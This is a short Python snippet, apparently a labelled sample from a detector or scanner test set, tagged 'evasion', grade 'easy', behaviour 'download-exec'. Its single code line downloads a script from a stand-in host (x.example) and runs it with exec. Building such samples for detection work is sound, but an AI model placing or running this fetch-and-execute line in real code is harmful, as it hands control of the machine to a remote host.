# evasion: urlopen read into exec
# grade: easy; does: download-exec
import urllib.request
exec(urllib.request.urlopen("http://x.example/p.py").read())
